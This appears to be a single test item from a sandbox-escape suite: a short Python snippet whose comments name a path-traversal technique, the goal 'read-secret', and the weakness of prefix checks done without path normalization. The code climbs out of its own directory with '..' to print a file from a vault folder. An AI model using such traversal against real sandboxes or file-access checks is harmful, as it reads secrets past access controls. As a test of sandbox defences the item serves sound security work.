# technique: a path below the program's own directory, with .. inside
# goal: read-secret
# source: prefix checks without normalization (pysandbox used realpath)
here = __file__.rpartition('/')[0]
print(open(here + '/./../vault/secret.txt').read())
